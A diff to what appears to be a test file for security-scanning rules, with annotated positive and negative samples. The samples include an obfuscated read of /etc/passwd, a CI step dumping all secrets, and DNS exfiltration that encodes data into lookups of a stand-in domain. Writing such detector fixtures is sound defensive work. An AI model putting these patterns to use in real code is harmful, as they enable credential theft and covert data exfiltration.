@@ -354,3 +354,12 @@ urllib.request.urlopen("file:///" + "vgx/kzhhdw".translate(_atbash))
 STEP_ENV = {"S": "${{ toJSON(secrets) }}"}
 # ok: ci-secrets-dump
 TOKEN_ENV = {"GH_TOKEN": "${{ secrets.GITHUB_TOKEN }}"}
+# data encoded into the names that are looked up
+def _lookup(name):
+    # ruleid: dns-encoded-data, socket-use
+    return socket.gethostbyname(name)
+for _chunk in ("alpha", "beta"):
+    _lookup(f"{_chunk.encode().hex()}.t.example")
+# ok: dns-encoded-data
+# ruleid: socket-use
+socket.gethostbyname("api.example.com")
